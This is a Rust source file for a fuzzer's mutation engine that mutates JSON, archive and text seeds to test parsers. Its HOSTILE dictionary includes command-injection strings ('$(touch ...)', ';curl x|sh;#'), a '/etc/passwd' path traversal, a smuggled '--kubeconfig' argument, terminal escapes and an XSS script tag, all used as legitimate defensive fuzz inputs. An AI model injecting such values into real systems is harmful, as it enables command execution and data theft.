//! The mutation engine: turns corpus seeds into hostile inputs.
//!
//! Byte-level mutations (flips, inserts, deletes, splices between seeds,
//! dictionary tokens) work on anything; structure-aware mutations keep an
//! input parseable long enough to reach the code behind the parser: JSON
//! values replaced with wrong types, huge numbers, deep nesting, long or
//! control-character strings, nulls and removed fields ([`json`]), and
//! archive members renamed, duplicated, dropped or mutated in place before
//! the archive is written again ([`archive`]).

pub mod archive;
pub mod bytes;
pub mod json;

use crate::rng::Rng;

/// What an input of a target is, deciding which structured mutations apply.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// A JSON document.
    Json,
    /// A zip, tar or tar.gz archive of bundle files.
    Archive,
    /// Line-oriented text (queries, selectors, requests).
    Text,
    /// A first line naming what the rest is, then a JSON document.
    Prefixed,
}

/// Strings that broke or nearly broke parsers and renderers before: path
/// tricks, shell metacharacters, terminal escapes, template syntax,
/// numbers at the edges of their types.
pub const HOSTILE: &[&str] = &[
    "../../x",
    "/etc/passwd",
    "x$(touch /tmp/kpm-fuzz-pwned)",
    ";curl x|sh;#",
    "--kubeconfig=/tmp/x",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;cHduZWQ=\u{7}",
    "\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m",
    "\u{202e}gnp.exe",
    "\u{0}",
    "\r\n",
    "@team #123 GH-1 PROJ-9",
    "</script><script>alert(1)</script>",
    "{{ x }}{% raw %}",
    "```",
    "|",
    "é",
    "\u{10ffff}",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "18446744073709551616",
    "1e400",
    "-0",
    "NaN",
    "%",
    "%zz",
    "%00",
    "\\",
    "\"",
    "",
];

/// Mutates seeds of one shape; `dict` adds the target's own tokens.
#[derive(Debug, Clone)]
pub struct Mutator {
    shape: Shape,
    dict: Vec<Vec<u8>>,
    max_len: usize,
}

impl Mutator {
    /// A mutator for `shape` whose outputs stay under `max_len` bytes.
    pub fn new(shape: Shape, dict: &[&str], max_len: usize) -> Mutator {
        let mut all: Vec<Vec<u8>> = dict.iter().map(|s| s.as_bytes().to_vec()).collect();
        all.extend(HOSTILE.iter().map(|s| s.as_bytes().to_vec()));
        Mutator {
            shape,
            dict: all,
            max_len,
        }
    }

    /// The target's tokens plus [`HOSTILE`].
    pub fn dict(&self) -> &[Vec<u8>] {
        &self.dict
    }

    /// One to four stacked mutations of `input`; `others` are seeds to
    /// splice from.
    pub fn mutate(&self, rng: &mut Rng, input: &[u8], others: &[&[u8]]) -> Vec<u8> {
        let mut out = input.to_vec();
        for _ in 0..1 + rng.below(4) {
            let structured = !rng.one_in(3);
            let next = if structured {
                self.structured(rng, &out, others)
            } else {
                None
            };
            out = match next {
                Some(v) => v,
                None => bytes::mutate(rng, &out, others, &self.dict),
            };
            out.truncate(self.max_len);
        }
        out
    }

    fn structured(&self, rng: &mut Rng, input: &[u8], others: &[&[u8]]) -> Option<Vec<u8>> {
        match self.shape {
            Shape::Json => json::mutate(rng, input, others, &self.dict),
            Shape::Archive => archive::mutate(rng, input, others, &self.dict),
            Shape::Text => Some(bytes::mutate_lines(rng, input, others, &self.dict)),
            Shape::Prefixed => {
                let split = input.iter().position(|&b| b == b'\n')?;
                let (head, body) = (&input[..split], &input[split + 1..]);
                let mut head = head.to_vec();
                if rng.one_in(8) {
                    head = bytes::mutate(rng, &head, &[], &self.dict);
                }
                let bodies: Vec<&[u8]> = others
                    .iter()
                    .map(|o| o.splitn(2, |&b| b == b'\n').nth(1).unwrap_or(o))
                    .collect();
                let body = json::mutate(rng, body, &bodies, &self.dict)?;
                head.push(b'\n');
                head.extend_from_slice(&body);
                Some(head)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutation_is_deterministic_and_bounded() {
        let m = Mutator::new(Shape::Json, &["Mi"], 4096);
        let seed = br#"{"a":[1,2,{"b":"c"}],"d":null}"#;
        let run = |s| {
            let mut rng = Rng::new(s);
            (0..200)
                .map(|_| m.mutate(&mut rng, seed, &[b"[1]"]))
                .collect::<Vec<_>>()
        };
        let a = run(3);
        assert_eq!(a, run(3));
        assert!(a.iter().all(|v| v.len() <= 4096));
        assert!(a.iter().any(|v| v.as_slice() != seed));
        // Most structured outputs are still JSON: they get past the parser.
        let parsed = a
            .iter()
            .filter(|v| serde_json::from_slice::<serde_json::Value>(v).is_ok())
            .count();
        assert!(parsed > 20, "only {parsed} of 200 mutants parse");
    }
}
